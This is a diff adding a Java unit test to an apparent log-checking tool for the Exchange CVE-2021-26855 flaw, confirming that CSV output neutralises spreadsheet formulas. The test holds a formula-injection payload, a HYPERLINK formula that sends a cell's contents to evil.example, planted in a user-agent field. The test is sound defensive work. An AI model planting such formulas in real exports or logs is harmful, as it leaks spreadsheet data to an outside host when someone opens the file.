@@ -41,6 +41,39 @@ class CheckCommandTest {
     }
 
     @Test
+    void csvOnStandardOutputAndInOutFilesNeverCarriesALiveFormula() throws IOException {
+        String formula = "=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")";
+        Logs.write(
+                logs,
+                LogCheckTest.ECP,
+                Logs.PROXY_HEADER
+                        + HostileInputTest.HIT.replace(
+                                "python-requests/2.25.1", "\"" + formula + "\""));
+        Path out = home.resolve("out");
+        TestIo io = new TestIo(home);
+
+        int status =
+                io.run(
+                        "check",
+                        "--logs",
+                        logs.toString(),
+                        "--format",
+                        "csv",
+                        "--computer",
+                        "EX01",
+                        "--out",
+                        out.toString());
+
+        assertThat(status).isEqualTo(1);
+        String guarded = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1";
+        // On standard output the user agent sits inside the Detail cell, after the time.
+        assertThat(io.out()).contains("=HYPERLINK").doesNotContain(",\"=");
+        assertThat(Files.readString(out.resolve("EX01-Cve-2021-26855.csv")))
+                .contains(guarded)
+                .doesNotContain(",\"=HYPERLINK");
+    }
+
+    @Test
     void aCleanTreeExitsZeroAndJsonSaysClean() throws IOException {
         Logs.write(
                 logs,
